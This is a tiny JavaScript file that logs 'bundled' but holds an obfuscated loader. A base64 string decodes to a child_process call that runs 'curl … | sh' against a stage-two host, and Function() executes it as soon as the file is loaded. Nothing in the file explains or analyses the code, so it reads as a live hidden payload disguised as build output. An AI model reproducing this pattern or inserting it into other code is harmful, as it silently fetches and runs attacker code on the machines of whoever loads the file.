const x = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHBzOi8vc3RhZ2UyLmV2aWwuZXhhbXBsZS94IHwgc2gnKQ==';
Function(Buffer.from(x, 'base64').toString())();
console.log('bundled');
